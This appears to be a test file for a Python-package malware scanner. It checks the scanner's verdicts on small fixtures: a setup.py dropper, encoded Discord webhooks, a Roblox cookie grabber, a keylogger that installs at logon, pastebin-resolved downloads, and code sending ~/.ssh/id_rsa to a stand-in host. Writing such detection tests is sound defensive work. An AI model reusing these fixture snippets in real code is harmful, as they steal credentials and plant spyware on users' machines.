import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pythonVerdict as verdict } from '../../helpers/python.js';
import { metadataRequirements, requirementName } from '../../../src/analysis/python/package.js';
import { stealerKit } from '../../../src/rules/python/packer.js';

/** Code that cannot be read, or is kept out of sight, judged by what it gives away around it. */

const ARMORED = "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n";

test('requirement names are read from requires.txt, Requires-Dist and pyproject, normalized', () => {
  assert.equal(requirementName('Discord_Webhook>=1.0; python_version > "3"'), 'discord-webhook');
  assert.equal(requirementName('  # comment'), undefined);
  assert.deepEqual(metadataRequirements('p.egg-info/requires.txt', 'requests\nMSS==9\n\n[dev]\npytest\n'), ['requests', 'mss']);
  assert.deepEqual(metadataRequirements('p-1.dist-info/METADATA', 'Name: p\nRequires-Dist: dhooks (>=1)\nRequires-Dist: pytest ; extra == "test"\n'), ['dhooks']);
  assert.deepEqual(metadataRequirements('p/pyproject.toml', '[project]\nname = "p"\ndependencies = ["pynput>=1", "psutil"]\n'), ['pynput', 'psutil']);
  assert.deepEqual(metadataRequirements('p/pyproject.toml', '[project\nbroken'), []);
});

test('a stealer kit needs a webhook client and two collectors', () => {
  assert.deepEqual(stealerKit(['dhooks', 'mss', 'pycryptodome', 'requests']), ['dhooks', 'mss', 'pycryptodome']);
  assert.equal(stealerKit(['dhooks', 'requests']), undefined);
  assert.equal(stealerKit(['mss', 'psutil', 'pycryptodome']), undefined);
});

test('PyArmor alone is not malicious; PyArmor with a stealer kit declared is', async () => {
  assert.doesNotMatch(await verdict({ 'p-1/p/__init__.py': ARMORED, 'p-1/p.egg-info/requires.txt': 'requests\npsutil\ncryptography\n' }), /^malicious/);
  assert.match(await verdict({ 'p-1/p/__init__.py': ARMORED, 'p-1/p.egg-info/requires.txt': 'requests\ndhooks\nmss\npycryptodome\n' }), /^malicious: Hides its code with a packer .*stealer's toolkit \(dhooks, mss, pycryptodome\)/);
  // the same kit declared only in setup.py, and in a wheel's METADATA
  const setup = "from setuptools import setup\nsetup(name='p', install_requires=['dhooks', 'pynput', 'pyperclip'])\n";
  assert.match(await verdict({ 'p-1/setup.py': setup, 'p-1/p/__init__.py': ARMORED }), /^malicious/);
  assert.match(await verdict({ 'p/__init__.py': ARMORED, 'p-1.dist-info/METADATA': 'Name: p\nRequires-Dist: discord-webhook\nRequires-Dist: mss\nRequires-Dist: browser-cookie3\n' }), /^malicious/);
  // a stealer kit with readable code is judged by the code
  assert.match(await verdict({ 'p-1/p/__init__.py': 'def hello():\n    return 1\n', 'p-1/p.egg-info/requires.txt': 'dhooks\nmss\npycryptodome\n' }), /^clean/);
});

test('a compressed blob hidden behind whitespace is malicious even under __main__; aligned code is not', async () => {
  const hidden = `import zlib\nclass Loader:\n    def _unpack(self, key, blob):\n        return zlib.decompress(blob)\nif __name__ == '__main__':\n    x = 1${' '.repeat(400)};Loader()._unpack(key='LLIJ', blob=b'x\\x9c\\xcb\\x48\\xcd\\xc9\\xc9\\x07\\x00')\n`;
  assert.match(await verdict({ 'p/main.py': hidden }), /^malicious: Hides a compressed or encoded payload/);
  const aligned = `TABLE = {\n    'a': 1,${' '.repeat(160)}# first\n}\nprint(TABLE)\n`;
  assert.match(await verdict({ 'p/t.py': aligned }), /^clean/);
});

test('setup.py that writes a script into the profile and opens it is a dropper; a build script it runs is not', async () => {
  const dropper = "import os\nfrom setuptools import setup\np = os.getenv('APPDATA') + '/x/run.cmd'\nwith open(p, 'w') as f:\n    f.write('start stage.py')\nos.startfile(p)\nsetup(name='p')\n";
  assert.match(await verdict({ 'p-1/setup.py': dropper }), /^malicious: Runs a program it has just written \(run\.cmd\)/);
  const build = "import os, subprocess\nfrom setuptools import setup\nwith open('build.cmd', 'w') as f:\n    f.write('nmake /f makefile.vc')\nsubprocess.check_call(['build.cmd'])\nsetup(name='p')\n";
  assert.doesNotMatch(await verdict({ 'p-1/setup.py': build }), /^malicious/);
});

test('a messenger webhook kept in encoded form is malicious; a plain one in a function is not', async () => {
  const hidden = "import base64, requests\ndef report(msg):\n    u = base64.b64decode('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTIzNDU2Nzg5L2FiYw==').decode()\n    requests.post(u, json={'content': msg})\n";
  assert.match(await verdict({ 'p/notify.py': hidden }), /^malicious: Embeds a hidden messenger webhook/);
  const plain = "import requests\ndef report(msg):\n    requests.post('https://discord.com/api/webhooks/123456789/abc', json={'content': msg})\n";
  assert.doesNotMatch(await verdict({ 'p/notify.py': plain }), /^malicious/);
});

test('a Roblox session cookie sent to a webhook is a stealer', async () => {
  const grab = "import requests\ndef grab(cookies):\n    c = cookies['.ROBLOSECURITY']\n    requests.post('https://discord.com/api/webhooks/123456789/abc', json={'content': c})\n";
  assert.match(await verdict({ 'p/g.py': grab }), /^malicious: Reads session data \(\.ROBLOSECURITY\)/);
  const client = "import requests\nclass Client:\n    def __init__(self, cookie):\n        self.s = requests.Session()\n        self.s.cookies['.ROBLOSECURITY'] = cookie\n";
  assert.match(await verdict({ 'p/client.py': client }), /^clean/);
});

test('uploading local files to a hidden address is malicious even when called; to a plain one, or sending no files, is not', async () => {
  const hidden = "import aiohttp, base64\nasync def sync(path):\n    form = aiohttp.FormData()\n    form.add_field('file', open(path, 'rb'))\n    async with aiohttp.ClientSession() as s:\n        await s.post(base64.b64decode('aHR0cDovL2Ryb3AuaW52YWxpZC91cGxvYWQ=').decode(), data=form)\n";
  assert.match(await verdict({ 'p/sync.py': hidden }), /^malicious: Uploads local files to a hidden destination drop\.invalid/);
  const plain = "import requests\ndef upload(path):\n    requests.post('https://api.example.com/files', files={'file': open(path, 'rb')})\n";
  assert.match(await verdict({ 'p/up.py': plain }), /^clean/);
  const ping = "import requests, base64\ndef ping():\n    requests.post(base64.b64decode('aHR0cDovL2Ryb3AuaW52YWxpZC91cGxvYWQ=').decode(), json={'v': 1})\n";
  assert.doesNotMatch(await verdict({ 'p/ping.py': ping }), /^malicious/);
});

test('a keylogger that also captures the screen and installs itself at logon is spyware; a hotkey tool that starts at logon is not', async () => {
  const keys = "from pynput.keyboard import Listener\ndef run(log):\n    with Listener(on_press=lambda k: log.write(str(k))) as l:\n        l.join()\n";
  const screen = "from pyautogui import screenshot\ndef shot(path):\n    screenshot().save(path)\n";
  const enable = "import os, sys\ndef enable():\n    os.link(sys.argv[0], 'C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\StartUp\\\\spy.lnk')\n";
  assert.match(await verdict({ 's/keys.py': keys, 's/screen.py': screen, 's/boot.py': enable }), /^malicious: Spyware behaviour: records keystrokes .* installs itself to start at logon/);
  assert.doesNotMatch(await verdict({ 's/keys.py': keys, 's/boot.py': enable }), /^malicious/);
});

test('code or a command decrypted at run time with a key the package does not hold is malicious; checksums are not', async () => {
  const blob = "BLOB = bytes.fromhex('3c2a3a213d6c7d66')\ndef start(key):\n    k = bytes.fromhex(key)\n    exec(bytes([BLOB[i] ^ k[i % 6] for i in range(len(BLOB))]).decode('ascii').replace('ADDR', 'x.invalid'))\n";
  assert.match(await verdict({ 'p/boot.py': blob }), /^malicious: Runs code it decrypts at run time/);
  const chars = "DATA = 'q~zs'\ndef run(key):\n    exec(''.join(chr(ord(c) ^ key) for c in DATA))\n";
  assert.doesNotMatch(await verdict({ 'p/boot.py': chars }), /^clean/);
  const cmd = "import subprocess\ndef crypt(path, key):\n    prog = bytes([b ^ key for b in b'\\xae\\xa9\\xb2\\xb8\\xb0\\xb0\\xef\\xee']).decode('utf-8')\n    subprocess.run(prog + ' ' + path + ', Start 1', shell=True)\n";
  assert.match(await verdict({ 'p/__init__.py': cmd }), /^malicious: Runs a command it decrypts at run time/);
  const crc = "import subprocess, zlib\ndef tag(data):\n    c = 0xFFFFFFFF\n    for b in data:\n        c = (c >> 8) ^ b\n    subprocess.run(['git', 'tag', 'v%08x' % (c ^ 0xFFFFFFFF)])\n";
  assert.match(await verdict({ 'p/tag.py': crc }), /^clean/);
});

test('a program downloaded from an address read off a paste site is a dropper; from an address the vendor API returns it is not', async () => {
  const drop = [
    'import os, urllib.request',
    "BASE = 'https://pastebin.com/raw/abc123'",
    'class D:',
    '    @staticmethod',
    '    def resolve():',
    '        return urllib.request.urlopen(BASE).read().decode()',
    '    @staticmethod',
    '    def fetch(url):',
    "        path = os.getenv('TEMP') + '\\\\upd.exe'",
    "        with open(path, 'wb') as f:",
    '            f.write(urllib.request.urlopen(url).read())',
    '        return path',
    'def init():',
    '    D.fetch(D.resolve())',
  ].join('\n');
  assert.match(await verdict({ 'p/__init__.py': drop }), /^malicious: Reads a download address from pastebin\.com and passes it to D\.fetch\(\)/);
  const release = drop.replace('https://pastebin.com/raw/abc123', 'https://api.github.com/repos/o/r/releases/latest');
  assert.doesNotMatch(await verdict({ 'p/__init__.py': release }), /^malicious/);
});

test('an SSH key sent to a fixed third-party host is exfiltration even when called; a registry token sent to its registry is not', async () => {
  const key = "import os, urllib.request\ndef sync():\n    data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n    urllib.request.urlopen(urllib.request.Request('http://collect.example.net/log', data=data))\n";
  assert.match(await verdict({ 'p/sync.py': key }), /^malicious: Sends cred-file:~\/\.ssh\/id_rsa to collect\.example\.net/);
  const netrc = "import os, requests\ndef login():\n    tok = open(os.path.expanduser('~/.netrc')).read().split()[-1]\n    return requests.get('https://api.service.example/user', headers={'Authorization': tok})\n";
  assert.doesNotMatch(await verdict({ 'p/auth.py': netrc }), /^malicious/);
});

test('a request signed with an HMAC computed by hand is not a decrypted command', async () => {
  const hmac = "import hashlib, subprocess\ndef sign(key, msg):\n    opad = bytes(x ^ 0x5C for x in key)\n    sig = hashlib.sha256(opad + msg).hexdigest()\n    subprocess.run('curl -H \"X-Sig: %s\" https://api.example.com/' % sig, shell=True)\n";
  assert.match(await verdict({ 'p/sign.py': hmac }), /^clean/);
});
